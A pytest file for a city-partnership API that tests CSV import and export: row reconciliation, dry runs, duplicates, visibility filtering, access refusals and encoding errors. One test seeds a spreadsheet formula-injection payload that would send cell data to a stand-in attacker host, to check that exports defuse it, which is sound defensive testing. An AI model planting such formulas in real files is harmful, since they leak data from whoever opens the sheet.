"""CSV import and export: every row accounted for, re-runs create nothing, exports import
again, and an export shows no more than the caller may read."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from fastapi.testclient import TestClient

TWIN_TOWNS = Path(__file__).parents[1] / "data" / "twin-towns" / "twin_cities_raw.csv"
CSV = {"Content-Type": "text/csv"}


def twin_towns_sample() -> tuple[str, dict[str, int], dict[str, str]]:
    """Rows of the twin-towns list: for each way it writes a country, its first row; the
    rows without a country; the three of a city with itself; and two rows that name one
    pair the other way round ("England" and "England, United Kingdom"). With where each
    of the special rows ended up in the sample (its line), and the cities given with
    "Republic of Ireland" and "Palestine"."""
    text = TWIN_TOWNS.read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    chosen: list[list[str]] = []
    seen: set[str] = set()
    for row in body:
        if {row[1], row[3]} - seen:
            chosen.append(row)
            seen |= {row[1], row[3]}
    named: dict[str, str] = {}  # the city given with a country written so
    special = {
        "empty country": ["Portsmouth", "England", "Falkland Islands", ""],
        "country in the city cell": ["Ningbo", "China", "Varna, Bulgaria", ""],
        "reversed pair": ["Varna", "Bulgaria", "Ningbo", "China"],
        "self": next(r for r in body if (r[0], r[1]) == (r[2], r[3])),
        "england": ["Sint-Niklaas", "Belgium", "Abingdon-on-Thames", "England, United Kingdom"],
        "england again": ["Abingdon-on-Thames", "England", "Sint-Niklaas", "Belgium"],
    }
    for country in ("Republic of Ireland", "Palestine"):
        row = next(r for r in body if country in (r[1], r[3]) and "" not in r)
        named[country] = row[0] if row[1] == country else row[2]
        special[country] = row
    lines = {}
    for name, row in special.items():
        chosen.append(row)
        lines[name] = len(chosen) + 1  # the header is line 1
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([header, *chosen])
    return out.getvalue(), lines, named


def import_csv(
    client: TestClient, collection: str, text: str, headers: dict[str, str], **params: Any
) -> dict[str, Any]:
    response = client.post(
        f"/v1/imports/{collection}",
        content=text.encode("utf-8"),
        params=params,
        headers={**headers, **CSV},
    )
    assert response.status_code == 200, response.text
    report: dict[str, Any] = response.json()
    results = report["results"]
    assert report["rows"] == len(results)
    assert report["rows"] == report["created"] + report["duplicates"] + report["rejected"]
    assert [r["row"] for r in results] == list(range(1, len(results) + 1))
    for result in results:
        assert (result["reason"] is not None) == (result["outcome"] == "rejected"), result
    return report


def every(client: TestClient, path: str, headers: dict[str, str]) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"limit": 200, **({"cursor": cursor} if cursor else {})}
        body = client.get(path, params=params, headers=headers).json()
        items += body["items"]
        cursor = body["next_cursor"]
        if cursor is None:
            return items


def test_twin_towns_import_reconciles_and_runs_again_creating_nothing(
    app_client: TestClient, keys: dict[str, dict[str, str]]
) -> None:
    editor = keys["editor"]
    text, lines, named = twin_towns_sample()
    rows = text.count("\n") - 1

    dry = import_csv(app_client, "partnerships", text, editor, dry_run="true")
    assert dry["dry_run"] is True
    assert dry["rows"] == rows
    assert every(app_client, "/v1/partnerships", editor) == [], "a dry run stores nothing"
    assert every(app_client, "/v1/cities", editor) == []
    assert app_client.get("/v1/changes", headers=editor).json()["items"] == []

    report = import_csv(app_client, "partnerships", text, editor)
    by_line = {r["line"]: r for r in report["results"]}
    rejected = {r["line"]: r["reason"] for r in report["results"] if r["outcome"] == "rejected"}
    assert rejected.keys() == {lines["empty country"], lines["self"]}
    assert "no country is given for 'Falkland Islands'" in rejected[lines["empty country"]]
    assert "a city cannot partner itself" in rejected[lines["self"]]
    assert by_line[lines["reversed pair"]]["outcome"] == "duplicate"
    assert by_line[lines["reversed pair"]]["id"] == by_line[lines["country in the city cell"]]["id"]
    assert by_line[lines["england again"]]["outcome"] == "duplicate"
    assert by_line[lines["england again"]]["id"] == by_line[lines["england"]]["id"]
    assert [(r["outcome"], r["reason"]) for r in dry["results"]] == [
        (r["outcome"], r["reason"]) for r in report["results"]
    ], "the dry run foretold it"

    partnerships = every(app_client, "/v1/partnerships", editor)
    cities = every(app_client, "/v1/cities", editor)
    assert len(partnerships) == report["created"]
    assert len(cities) == report["cities_created"]
    assert sum(len(r["cities_created"]) for r in report["results"]) == len(cities)
    place = {(c["name"], c["country_code"]) for c in cities}
    assert ("Abingdon-on-Thames", "GB") in place, "England, United Kingdom: GB"
    assert ("Varna", "BG") in place
    assert (named["Republic of Ireland"], "IE") in place
    assert (named["Palestine"], "PS") in place
    changes = every_change(app_client, editor)
    assert len(changes) == len(partnerships) + len(cities), "each with its change"

    again = import_csv(app_client, "partnerships", text, editor)
    assert again["created"] == again["cities_created"] == 0
    assert again["duplicates"] == report["created"] + report["duplicates"]
    assert again["rejected"] == report["rejected"]
    assert len(every(app_client, "/v1/partnerships", editor)) == len(partnerships)


def every_change(client: TestClient, headers: dict[str, str]) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    since = 0
    while True:
        body = client.get("/v1/changes", params={"since": since, "limit": 500}, headers=headers)
        page = body.json()
        items += page["items"]
        if page["next_since"] == since:
            return items
        since = page["next_since"]


def test_a_rejected_row_leaves_nothing_behind_and_rows_take_their_visibility(
    app_client: TestClient, keys: dict[str, dict[str, str]]
) -> None:
    editor = keys["editor"]
    text = (
        "partner_city;partner_country;kind;established_on;ended_on;visibility;notes;\n"
        "Vilnius;Litauen;friendship;2019-05-01;;public;;\n"
        # Refused by the partnership's own rules after its new city was made.
        "Tartu;Estland;friendship;2020-01-01;2019-01-01;public;;\n"
        "Geheimstadt;LT;contact;;;internal;nur intern;\n"
        "'=Formel;LT;contact;;;public;;\n"
    )
    app_client.post(
        "/v1/cities", json={"name": "Köln", "country_code": "DE"}, headers=editor
    ).raise_for_status()
    report = import_csv(app_client, "partnerships", text, editor)
    assert [r["outcome"] for r in report["results"]] == [
        "created",
        "rejected",
        "created",
        "created",
    ]
    assert "ended_on: must not be before established_on" in report["results"][1]["reason"]
    cities = {c["name"]: c for c in every(app_client, "/v1/cities", editor)}
    assert "Tartu" not in cities, "the rejected row's new city was undone with it"
    assert report["cities_created"] == 3
    assert cities["Geheimstadt"]["visibility"] == "internal", "a city takes its row's visibility"
    assert "=Formel" in cities, "the guard quote is taken off"
    public = {c["name"] for c in every(app_client, "/v1/cities", {})}
    assert "Geheimstadt" not in public
    partnerships = every(app_client, "/v1/partnerships", editor)
    assert {p["partner_city"]["name"]: p["notes"] for p in partnerships}["Geheimstadt"] == (
        "nur intern"
    )
    assert all(p["city"]["name"] == "Köln" for p in partnerships), "no city: the home city's"


def test_exports_import_again_and_show_what_the_caller_may_see(
    app_client: TestClient, keys: dict[str, dict[str, str]]
) -> None:
    editor = keys["editor"]

    def post(path: str, **body: Any) -> dict[str, Any]:
        response = app_client.post(path, json=body, headers=editor)
        assert response.status_code == 201, response.text
        return response.json()

    home = post("/v1/cities", name="Köln", country_code="DE", names={"en": "Cologne"})
    kyoto = post("/v1/cities", name="京都市", country_code="JP", names={"de": "Kyoto"})
    secret = post("/v1/cities", name="Geheim", country_code="JP", visibility="internal")
    post(
        "/v1/partnerships",
        partner_city_id=kyoto["id"],
        kind="twinning",
        established_on="1963-05-29",
        sdgs=[11, 17],
        description={"de": "Städtepartnerschaft", "en": "Twinning"},
        notes="intern",
    )
    post("/v1/partnerships", partner_city_id=secret["id"], kind="contact")
    post(
        "/v1/organisations",
        name='=HYPERLINK("http://x")',
        kind="association",
        city_id=home["id"],
        email='=HYPERLINK("http://e.vil/?"&A2,"x")&"@e.co"',
    )
    post(
        "/v1/events",
        title={"de": "Empfang", "en": "Reception"},
        kind="reception",
        starts_at="2025-12-05T18:00:00+01:00",
        venue={"name": "Rathaus", "city_id": home["id"]},
        fields_of_action=["city_diplomacy"],
    )
    for collection in ("cities", "partnerships", "organisations", "events"):
        response = app_client.get(f"/v1/{collection}.csv", headers=editor)
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        exported = response.text
        staff_rows = list(csv.DictReader(io.StringIO(exported)))
        assert len(staff_rows) == len(every(app_client, f"/v1/{collection}", editor))
        assert "visibility" in staff_rows[0]
        report = import_csv(app_client, collection, exported, editor)
        assert report["duplicates"] == report["rows"] == len(staff_rows), [
            r["reason"] for r in report["results"]
        ]
        public = app_client.get(f"/v1/{collection}.csv").text
        public_rows = list(csv.DictReader(io.StringIO(public)))
        assert len(public_rows) == len(every(app_client, f"/v1/{collection}", {}))
        assert "notes" not in public_rows[0]
        assert "visibility" not in public_rows[0]
        assert "Geheim" not in public
        assert "intern" not in public
    organisations = list(csv.DictReader(io.StringIO(app_client.get("/v1/organisations.csv").text)))
    assert organisations[0]["name"] == '\'=HYPERLINK("http://x")', "no formula for Excel"
    assert "email" not in organisations[0]
    staff = list(
        csv.DictReader(io.StringIO(app_client.get("/v1/organisations.csv", headers=editor).text))
    )
    assert staff[0]["email"].startswith("'="), "no formula in any text cell"
    partnerships = list(csv.DictReader(io.StringIO(app_client.get("/v1/partnerships.csv").text)))
    assert [(p["partner_city"], p["sdgs"], p["description_en"]) for p in partnerships] == [
        ("京都市", "11;17", "Twinning")
    ]


def test_events_import_with_their_venue_city(
    app_client: TestClient, keys: dict[str, dict[str, str]]
) -> None:
    editor = keys["editor"]
    text = (
        "title_de,title_en,kind,starts_at,ends_at,venue_name,venue_city,venue_country,sdgs\n"
        "Filmabend,Film night,film_screening,2025-12-04T19:00:00+01:00,,Filmforum,Köln,DE,4;16\n"
        "Filmabend,,film_screening,2025-12-04T19:00:00+01:00,,,,,\n"
        "Ohne Beginn,,panel,,,,,,\n"
    )
    report = import_csv(app_client, "events", text, editor)
    assert [r["outcome"] for r in report["results"]] == ["created", "duplicate", "rejected"]
    assert "starts_at" in report["results"][2]["reason"]
    event = app_client.get(f"/v1/events/{report['results'][0]['id']}", headers=editor).json()
    assert event["venue"]["city"]["name"] == "Köln"
    assert event["sdgs"] == [4, 16]


def test_refusals(app_client: TestClient, keys: dict[str, dict[str, str]]) -> None:
    text = "name,country_code\nTurku,FI\n"
    assert app_client.post("/v1/imports/cities", content=text, headers=CSV).status_code == 401
    reader = {**keys["reader"], **CSV}
    assert app_client.post("/v1/imports/cities", content=text, headers=reader).status_code == 403
    editor = keys["editor"]
    as_json = app_client.post("/v1/imports/cities", json={"name": "Turku"}, headers=editor)
    assert as_json.status_code == 415
    unknown = app_client.post(
        "/v1/imports/cities", content="name,contry\nTurku,FI\n", headers={**editor, **CSV}
    )
    assert unknown.status_code == 422
    fields = {e["field"]: e["message"] for e in unknown.json()["errors"]}
    assert fields["header.2"] == "unknown column 'contry'"
    assert fields["header"] == "column 'country_code' is required"
    latin1 = app_client.post(
        "/v1/imports/cities",
        content="name,country_code\nMünchen,DE\n".encode("latin-1"),
        headers={**editor, **CSV},
    )
    assert latin1.status_code == 422
    assert "UTF-8" in latin1.json()["detail"]
    assert app_client.get("/v1/cities", headers=editor).json()["items"] == []


def test_records_the_caller_may_not_see_are_neither_duplicates_nor_in_the_way(
    app_client: TestClient, keys: dict[str, dict[str, str]]
) -> None:
    admin, editor = keys["admin"], keys["editor"]  # only the admin may see confidential ones

    def post(path: str, **body: Any) -> dict[str, Any]:
        response = app_client.post(path, json=body, headers=admin)
        assert response.status_code == 201, response.text
        return response.json()

    secret = post("/v1/cities", name="Kyoto", country_code="JP", visibility="confidential")
    post(
        "/v1/events",
        title={"de": "Empfang"},
        kind="reception",
        starts_at="2025-12-05T18:00:00+01:00",
        venue={"name": "Residenz", "city_id": secret["id"]},
    )
    cities = "name,country_code\nKyoto,JP\n"
    first = import_csv(app_client, "cities", cities, editor)
    assert first["results"][0]["outcome"] == "created", "the hidden Kyoto is no duplicate"
    again = import_csv(app_client, "cities", cities, editor)
    assert again["results"][0]["outcome"] == "duplicate", "nor does it hide the visible one"
    assert again["results"][0]["id"] == first["results"][0]["id"] != secret["id"]
    events = "title_de,kind,starts_at\nEmpfang,reception,2025-12-05T18:00:00+01:00\n"
    dry = import_csv(app_client, "events", events, editor, dry_run="true")
    assert dry["results"][0]["outcome"] == "created", "an event at a hidden city is not found"


def test_files_that_cannot_be_read_store_nothing(
    app_client: TestClient, keys: dict[str, dict[str, str]]
) -> None:
    editor = {**keys["editor"], **CSV}
    huge = "name,country_code\nTurku,FI\n" + '"' + "x" * 200_000 + '",FI\n'
    response = app_client.post("/v1/imports/cities", content=huge, headers=editor)
    assert response.status_code == 422
    assert response.json()["errors"][0]["field"] == "line.3"
    assert app_client.get("/v1/cities", headers=editor).json()["items"] == []
    trailing = import_csv(app_client, "cities", "name,country_code,\nTurku,FI,\n", editor)
    assert trailing["created"] == 1, "an empty last header cell (a trailing comma) is no column"
